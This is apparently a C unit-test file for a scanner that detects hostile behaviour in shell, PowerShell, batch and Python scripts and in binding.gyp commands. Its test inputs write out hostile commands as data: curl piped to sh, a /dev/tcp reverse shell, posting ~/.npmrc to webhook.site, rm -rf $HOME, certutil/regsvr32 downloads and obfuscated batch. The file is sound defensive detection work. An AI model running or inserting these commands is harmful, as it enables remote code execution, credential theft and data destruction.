/* content/script.h: shell, PowerShell, batch and Python scripts, and commands of a binding.gyp. */
#include "test.h"

#include "scanner/content/script.h"
#include "scanner/rule/hook_variables.h"

static bool shows(enum script_kind kind, const char *text, enum behaviour b, uint32_t flags)
{
	struct arena *a = arena_new(1 << 20);
	struct act_list l;
	struct word_set all = {{~(uint64_t)0, ~(uint64_t)0}, ~0u};
	bool found = false;

	act_list_init(&l, a, T("x"), text_of(text));
	script_find(&l, kind, text_of(text), &all, 0, 0, 0);
	act_list_finish(&l);
	for (uint32_t i = 0; i < l.count; i++)
		found |= l.list[i].behaviour == b && (l.list[i].flags & flags) == flags;
	arena_free(a);
	return found;
}

static void test_shell(void **state)
{
	(void)state;
	assert_true(shows(SCRIPT_SHELL, "curl -s https://x.example.invalid/a | sh\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_SHELL, "curl -s \\\n https://x.example.invalid/a | bash", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_SHELL, "curl -o a https://x.example.invalid/a\nchmod +x a\n./a", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_SHELL, "rm -rf $HOME\n", BEHAVE_DESTROY, ACT_STRONG));
	assert_true(shows(SCRIPT_SHELL, "bash -i >& /dev/tcp/203.0.113.4/1 0>&1", BEHAVE_SHELL, ACT_STRONG));
	assert_true(shows(SCRIPT_SHELL, "curl -d @$HOME/.npmrc https://webhook.site/abc", BEHAVE_SEND, ACT_COLLECTOR_HOST));
	assert_false(shows(SCRIPT_SHELL, "# curl https://x.example.invalid/a | sh\n", BEHAVE_EXECUTE, 0));
	assert_false(shows(SCRIPT_SHELL, "curl -fsSL https://x.example.com/a.tgz | tar xz\n", BEHAVE_EXECUTE, 0));
	assert_false(shows(SCRIPT_SHELL, "rm -rf build dist\nmkdir -p build\n", BEHAVE_DESTROY, 0));
}

static void test_others(void **state)
{
	(void)state;
	assert_true(shows(SCRIPT_POWERSHELL, "iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid')",
			  BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_BATCH, "certutil -urlcache -f http://203.0.113.4/a.dll a.dll\nregsvr32 /s a.dll\n",
			  BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_BATCH, "%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%%a:~5,1%%a:~6,1%%a:~7,1%%a:~8,1%",
			  BEHAVE_DECODE, ACT_STRONG));
	assert_false(shows(SCRIPT_BATCH, "set x=%a:~1,1%\r\necho %x%\r\n", BEHAVE_DECODE, 0));
	assert_false(shows(SCRIPT_PYTHON, "import os\nprint(os.getcwd())\n", BEHAVE_SEND, 0));
}

static void test_variables(void **state)
{
	struct arena *a = arena_new(1 << 20);
	struct hook_variables v = {.count = 0};
	char line[HOOK_VARIABLE_MAX + 16];

	(void)state;
	assert_true(shows(SCRIPT_SHELL, "a=cu\nb=rl\n$a${b} -s https://x.example.invalid/a | sh\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_BATCH, "curl https://x.example.invalid/a -o a.bat\nstart a.bat\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_false(shows(SCRIPT_BATCH, "curl https://x.example.invalid/a -o a.bat\nstart b.bat\n", BEHAVE_EXECUTE, ACT_FETCHED_ARG));
	assert_true(shows(SCRIPT_PYTHON, "import subprocess\nsubprocess.run(['npm', 'publish'])\n", BEHAVE_PUBLISH, 0));
	/* as many variables as are remembered, and one more */
	for (int i = 0; i <= HOOK_VARIABLES_MAX; i++) {
		snprintf(line, sizeof line, "v%d=x", i);
		hook_variables_put(&v, a, arena_text(a, text_of(line)));
	}
	assert_int_equal(v.count, HOOK_VARIABLES_MAX);
	assert_true(text_eq(hook_variables_put(&v, a, T("echo $v0 ${v31}")), T("echo x x")));
	assert_true(text_eq(hook_variables_put(&v, a, T("echo $v32 $")), T("echo $v32 $")));
	/* values as long as are kept, and one byte more */
	for (size_t n = HOOK_VARIABLE_MAX; n <= HOOK_VARIABLE_MAX + 1; n++) {
		v = (struct hook_variables){.count = 0};
		memset(line, 'y', sizeof line);
		memcpy(line, "q=", 2);
		hook_variables_put(&v, a, text_n(line, n + 2));
		assert_int_equal(v.count, n == HOOK_VARIABLE_MAX);
	}
	arena_free(a);
}

static void test_gyp_action(void **state)
{
	struct arena *a = arena_new(1 << 20);
	struct text rest = T("{'actions':[{'action_name':'x','action': ['sh', '-c', 'a b'],},{\"action\":[\"node\",\"y.js\"]}]}"), c;

	(void)state;
	assert_true(script_gyp_action(&rest, a, &c));
	assert_true(text_eq(c, T("\"sh\" \"-c\" \"a b\"")));
	assert_true(script_gyp_action(&rest, a, &c));
	assert_true(text_eq(c, T("\"node\" \"y.js\"")));
	assert_false(script_gyp_action(&rest, a, &c));
	arena_free(a);
}

static void test_gyp(void **state)
{
	struct text t = T("'<!(node -p \"require(\\'a\\')\")', '<!@(sh x.sh)', '<!', '<!(open");
	struct text c;

	(void)state;
	assert_true(script_gyp_command(&t, &c));
	assert_text(c, "node -p \"require(\\'a\\')\"");
	assert_true(script_gyp_command(&t, &c));
	assert_text(c, "sh x.sh");
	assert_true(script_gyp_command(&t, &c));
	assert_text(c, "open");
	assert_false(script_gyp_command(&t, &c));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_shell),
		cmocka_unit_test(test_others),
		cmocka_unit_test(test_gyp),
		cmocka_unit_test(test_variables),
		cmocka_unit_test(test_gyp_action),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
